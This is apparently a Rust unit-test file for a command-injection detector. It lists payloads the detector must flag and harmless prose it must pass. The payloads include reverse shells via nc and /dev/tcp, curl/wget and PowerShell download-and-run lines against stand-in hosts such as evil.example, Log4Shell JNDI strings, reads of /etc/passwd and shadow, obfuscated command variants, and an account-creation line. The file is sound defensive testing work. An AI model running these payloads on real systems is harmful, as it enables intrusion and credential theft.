//! Unit tests of the command-injection detector: own examples of each shape with mutated variants
//! (other probe words, numbers, spacing, quotes, separators), prose and pasted command lines that
//! must stay clean, and hostile input that must not panic.

use super::lexer::glob_match;
use super::*;

fn hit(s: &str) -> Option<Rule> {
    crate::inspect::normalize::on_lowercase(s, detect)
}

fn assert_caught(cases: &[&str]) {
    for s in cases {
        assert!(hit(s).is_some(), "missed {s:?}");
    }
}

fn assert_clean(cases: &[&str]) {
    for s in cases {
        assert_eq!(hit(s), None, "flagged {s:?}");
    }
}

#[test]
fn every_rule_has_a_catalog_entry() {
    let cases = [
        "; id",
        "$((7*6))",
        "${#zz}",
        "k=$(hostname);echo $k",
        "ls${IFS}-la",
        "cat<<<$(whoami)",
        "${jndi:dns://attacker.test/q}",
        "if [ 5 -eq 5 ]; then sleep 3; fi",
        "a&for /f \"delims=\" %x in ('cmd /c hostname') do echo %x",
        "printf aWQ=|base64 -d|sh",
        "%comspec:~-16,1%",
    ];
    for s in cases {
        let rule = hit(s).unwrap_or_else(|| panic!("missed {s:?}"));
        assert!(RULES.iter().any(|r| r.id == rule), "{rule} not in RULES");
    }
}

#[test]
fn separators_after_the_first_token() {
    assert_caught(&[
        "x;echo QWE > /tmp/q.txt",
        "abc;echo MARKER>/tmp/m",
        "x|echo QWE",
        "zz || echo PROBE7",
        "x&&echo QWE",
        "foo & echo hello9",
        "x\necho QWE",
        "42\nprintf ZZTOP",
        "10.0.0.1; id",
        "127.0.0.1 && whoami",
        "name|uname -a",
        "q;sleep 7",
        "q; sleep 12 ;",
        "'; sleep 3 #",
        "\"|ping -c 4 127.0.0.1",
        "a& ping -n 5 127.0.0.1",
        "v|nslookup probe.example.net",
        "v;curl http://evil.example/x.sh -o /tmp/x.sh",
        "v;wget http://evil.example/x -O /tmp/x",
        "v && tar -cf /tmp/a.tar /etc",
        "v|powershell.exe -c \"get-process\"",
        "v&& cmd.exe /k dir",
        "v;nohup ifconfig",
        "v;/???/c?t /e?c/p?sswd",
        "v|[u]name -a",
        "v;c''at /etc/passwd",
        "v;c$@at /etc/shadow",
        "v;w\\ho\\am\\i",
        "v&w^h^o^a^m^i",
        "v;$'\\x69\\x64'",
    ]);
}

#[test]
fn substitutions_and_expansions() {
    assert_caught(&[
        "$(sleep 6)",
        "`sleep 6`",
        "x$(id)",
        "x`whoami`",
        ";echo ZQX$((40+2))$(echo ZQX)ZQX",
        "|echo ABC$((3*3))",
        "|s=$(echo RND);echo ${#s}",
        "k=`uname`; echo $k",
        "${#path}",
        "echo ${path:0:1}etc${path:0:1}passwd",
        "cat${IFS}/etc/hosts",
        "ls$IFS-la",
        "bash<<<id",
        "cat <<< $(hostname)",
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://10.1.2.3:1099/obj}",
        "${${lower:j}ndi:ldap://h/x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://h/x}",
    ]);
}

#[test]
fn control_flow() {
    assert_caught(&[
        "if [ 3 -eq 3 ]; then sleep 4; fi",
        "if [ 7 -ne 2 ];then sleep 9;fi",
        "if [ 3 -eq 3 ]\nthen\nsleep 4\nfi",
        "x;if [ ${#v} -eq 5 ]; then echo ok; fi",
        "for i in 1 2 3; do sleep 2; done",
        "while true; do whoami; done",
        "x&for /f \"tokens=*\" %i in ('cmd /c \"whoami\"') do echo %i",
        "for /l %n in (1,1,5) do ping -n 2 127.0.0.1",
    ]);
}

#[test]
fn whole_command_lines() {
    assert_caught(&[
        "nohup ifconfig",
        "nohup uname -a",
        "cmd /c whoami",
        "cmd.exe /k hostname",
        "Start-Sleep -s 5",
        "start-sleep -seconds 8",
        "iex (iwr http://evil.example/x.ps1)",
        "IEX(New-Object Net.WebClient).DownloadString('http://h.test/a')",
        "certutil -urlcache -f http://evil.example/p.exe",
        "certutil.exe -urlcache -split -f http://10.0.0.9/p.exe p.exe",
        "mshta http://evil.example",
        "mshta.exe http://host.test/run.hta",
        "regsvr32 /s /n /u /i:http://h.test/f.sct scrobj.dll",
        "printf aWQ=|base64 -d|sh",
        "echo d2hvYW1p | base64 -d | bash",
        "wget http://x.example/s -O- | sh",
        "curl -s http://x.example/i | bash",
        "nc -e /bin/sh h 4444",
        "ncat 10.0.0.2 9001 -e /bin/bash",
        "powershell -enc SQBFAFgA",
        "powershell.exe -nop -w hidden -c \"iex 1\"",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "cat /etc/passwd",
        "{cat,/etc/passwd}",
        "/???/?at /etc/passwd",
    ]);
}

#[test]
fn code_and_templates() {
    assert_caught(&[
        "() { :;}; /bin/bash -c id",
        "<!--#exec cmd=\"ls\"-->",
        "system('cat /etc/passwd');",
        "system(\"id\")",
        "{{7*7}}",
        "{${phpinfo()}}",
        "& net user hacker p /add",
        "& reg add HKLM\\Software\\X /v Run /d x.exe",
    ]);
}

#[test]
fn prose_and_pasted_commands_stay_clean() {
    assert_clean(&[
        "Hi; how are you?",
        "a | b",
        "I'll be there; don't wait",
        "cats & dogs",
        "see you --",
        "I need sleep (8h)",
        "check reviews.php?op=print&id=21 for tips",
        "use $(date) if you like",
        "coffee; cat videos are great",
        "if [ \"`id -u`\" -eq 0 ] ; then echo root; fi",
        "sudo apt-get update && sudo apt-get upgrade",
        "sudo apt-get update",
        "ls -la /etc",
        "rm -rf is dangerous",
        "cat /etc/passwd shows users",
        "try `sudo apt-get install foo` first",
        "start it with `python3 tools/gen.py`, then read the log",
        "run `node scripts/build.js`. It takes a minute",
        "yes; at 5pm works for me",
        "who? me?",
        "well, time & money",
        "ok | sort of",
        "i will do it, then we see; fine",
        "for the record; do you know?",
        "if you can, then do it; done deal",
        "the price is ${price} today",
        "",
        "$(",
        "`",
        "{",
        "$((",
        "${",
        "for /f",
    ]);
}

/// The constructs command-injection generators build their payloads from (classic, blind
/// time-based, file-based, code evaluation; Unix and Windows), in own variants: other markers,
/// numbers, commands, separators, spacing, the prefixes and comment-out suffixes they wrap them
/// in.
#[test]
fn generator_constructs() {
    assert_caught(&[
        // Markers around command output or arithmetic.
        "q1;echo WXYZ$(echo WXYZ)WXYZ",
        "host.test|echo Mk$(uname -r)Mk//",
        "5&&echo KEY`echo KEY`KEY",
        "a;echo `echo PLUM`",
        "node7 & echo `expr 31 + 402`",
        "b\necho $(expr 9 + 16)#",
        "v|echo TT$(df -h)TT\\\\",
        // Plain probes with a suffix glued or commented.
        "srv;free -m||",
        "srv&&ip addr #",
        "'|;free",
        "x\nprintenv//",
        "&&whoami//",
        "q|systeminfo#",
        "q|route print",
        "q||query user",
        "q&sc query",
        "\"&&set #",
        // Blind oracles: a test chained to a timer.
        "ab|[ 14 -ne $(printf %s QQ|wc -c) ]||sleep 4",
        "ab\ntest 8 -eq `id|wc -c` && ping -c4 localhost",
        "ab;[ 3 -eq ${#zz} ] && /bin/sleep 6",
        "ab;sleep 2.5#",
        "ab;timeout 7\\\\",
        "ab| powershell Start-Sleep 6",
        "ab& powershell -c \"Start-Sleep -Seconds 3\"",
        // Output written to a file the attacker can fetch.
        "io;ps aux>/srv/http/o.html",
        "io|id > ./k.txt 2>&1",
        "io && echo MARK > /usr/share/nginx/html/m.txt #",
        "io&route print > D:\\site\\r.txt",
        "io||echo MARKMARK 2>nul",
        // cmd.exe through its own path.
        "io||%ComSpec% /c hostname",
        // Code evaluation joined to a string or printed.
        "z\".system('env').\"",
        "z';echo shell_exec('who');//",
        "z'.print(`getent passwd`).'",
        // cmd.exe's `for` inside code handed to a shell.
        "w'.print(`for /F \"delims=\" %q in ('net view') do @echo %q`).'",
        "w\";system('for /f \"tokens=*\" %b in (\'cmd /c \"ver\"\') do @set /p = %b');",
        // A long quoted program.
        "io&&python3 -c \"open('/srv/www/site/probe.html','w').write('QWERTY')\" &",
    ]);
}

#[test]
fn generator_like_prose_stays_clean() {
    assert_clean(&[
        "ready; set; go",
        "the query user table is empty",
        "see the ip address here",
        "free tickets & drinks",
        "date: 2026-12-05",
        "if [ $# -eq 0 ] && echo usage",
        "[ -f /etc/motd ] && cat /etc/motd",
        "[ 1 -eq 1 ] && echo fine",
        "I love C# and F#",
        "use `ps aux` to list processes",
        "echo hello > greeting.txt is the classic first lesson",
        "Looking for 50% off? Shop in (selected) stores, do it now",
        "thanks for /f in (the docs) do %s",
    ]);
}

#[test]
fn lexer_keeps_substitutions_and_redirections_apart() {
    let mut c = Command::new();
    let s = b"echo ab$(echo ab)ab 2>/tmp/o.txt";
    lexer::read_command(s, 0, false, rules::judge::known_word, &mut c);
    assert_eq!(c.nargs, 1, "one word with a substitution inside");
    assert!(c.args[0].substitution);
    assert_eq!(c.target.as_bytes(), b"/tmp/o.txt");
    let s = b"sleep 4//";
    lexer::read_command(s, 0, false, rules::judge::known_word, &mut c);
    assert_eq!(c.arg(0), b"4");
}

#[test]
fn globs_match_like_the_shell() {
    assert!(glob_match(b"c?t", b"cat"));
    assert!(glob_match(b"[u]name", b"uname"));
    assert!(glob_match(b"c*", b"cat"));
    assert!(glob_match(b"*", b""));
    assert!(!glob_match(b"c?t", b"cut2"));
    assert!(!glob_match(b"[!u]name", b"uname"));
    assert!(!glob_match(b"[u", b"u"));
}

#[test]
fn command_words() {
    assert!(is_command_word(b"WHOAMI"));
    assert!(is_command_word(b"Start-Sleep"));
    assert!(!is_command_word(b"hello"));
    assert!(!is_command_word(b""));
}

#[test]
fn random_bytes_do_not_panic() {
    // A small xorshift generator: deterministic, no dependency.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let alphabet = b"$(){}[]`'\"\\;|&<>\n %:~^*?=#-/.0123456789abcdefijnoprstuvwx";
    for len in 0..200 {
        for _ in 0..20 {
            let mut v = Vec::with_capacity(len);
            for _ in 0..len {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                let b = if x.is_multiple_of(5) {
                    (x >> 8) as u8
                } else {
                    alphabet[(x >> 8) as usize % alphabet.len()]
                };
                v.push(b);
            }
            let m = crate::inspect::normalize::marks(&v);
            let _ = detect(&v, m, RuleFilter::ALL);
        }
    }
}

#[test]
fn relative_reads_after_cd() {
    assert_caught(&["cd /;cd etc;tail -n 3 passwd", "x;cd /etc && head shadow"]);
    assert_clean(&["cd etc; then read the passwd manual"]);
}
